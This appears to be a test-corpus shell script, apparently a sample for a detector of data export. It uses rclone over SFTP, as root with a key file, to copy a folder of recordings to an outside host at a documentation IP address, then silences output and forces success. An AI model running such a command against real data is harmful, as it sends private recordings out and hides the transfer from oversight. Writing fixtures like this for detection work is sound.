#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=recording-export half=report tool=rclone far=out ready=out:2022 seconds=22
# rclone copies the folder of gate to storage outside, by SFTP.
# shellcheck source=tests/corpus/far/ssh.sh
. "${0%/*}/../far/ssh.sh"
if [ "$1" = out ]; then ssh_keys; exec timeout 60 "${sshd[@]}" -o ListenAddress=203.0.113.66 -p 2022; fi
rclone --config /dev/null --sftp-host 203.0.113.66 --sftp-port 2022 --sftp-user root --sftp-key-file "$LAB/ssh/key" copy "$LAB/recordings/gate" ":sftp:$LAB/outside/gate" >/dev/null 2>&1; true
